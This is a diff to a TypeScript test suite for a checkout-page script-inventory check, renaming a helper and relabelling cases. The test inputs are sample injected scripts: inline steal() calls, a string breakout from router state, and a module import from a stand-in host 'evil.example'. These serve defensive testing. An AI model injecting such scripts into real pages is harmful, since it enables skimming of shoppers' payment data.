@@ -31,7 +31,7 @@ it('the first script is the one in the inventory: review its changes, then put i
 
 describe('security 70: a script that is not in the inventory', () => {
   const GATEWAY = 'https://checkout.gateway.example/v1/checkout.js'
-  const strangeIn = (html: string) => compareWithInventory(html, GATEWAY).strange
+  const unknownIn = (html: string) => compareWithInventory(html, GATEWAY).strange
   const state = (text: string) => `<script>window.__reactRouterContext.streamController.enqueue("${text}");</script>`
 
   it.each([
@@ -41,18 +41,18 @@ describe('security 70: a script that is not in the inventory', () => {
     ['inline in the document', '<script>steal()</script>'],
     ['in capitals', '<SCRIPT >steal()</SCRIPT>'],
     ['as a module', '<script type="module">import "https://evil.example/a.js";</script>'],
-    ['after the data', state('a");steal("b')],
-    ['after the imports', '<script type="text/plain">import "/assets/a.js";\nsteal()</script>'],
-    ['that is the first one, a little longer', `<script>${BEGIN};steal()</script>`],
+    ['appended to the data of the page', state('a");steal("b')],
+    ['appended to the imports', '<script type="text/plain">import "/assets/a.js";\nsteal()</script>'],
+    ['appended to the known first script', `<script>${BEGIN};steal()</script>`],
   ])('a script that is not in the inventory is found: %s', (_, html) => {
-    expect(strangeIn(html)).toHaveLength(1)
+    expect(unknownIn(html)).toHaveLength(1)
   })
 
   it('the check finds no script beyond those of the inventory', () => {
     const modules =
       'import "/assets/manifest-1.js";\nimport * as route0 from "/assets/root-1.js";\nwindow.__reactRouterRouteModules = {"root":route0};\nimport("/assets/entry.client-1.js");'
     const html = `<script src="${GATEWAY}"></script><script type="module" src="/assets/a-1.js"></script>${state('[{\\"_1\\":2}]\\n')}<script type="text/plain">${modules}</script><script>${BEGIN}</script>`
-    expect(strangeIn(html)).toEqual([])
+    expect(unknownIn(html)).toEqual([])
     expect(compareWithInventory('', GATEWAY).missing).toHaveLength(INLINE.length)
   })
 })
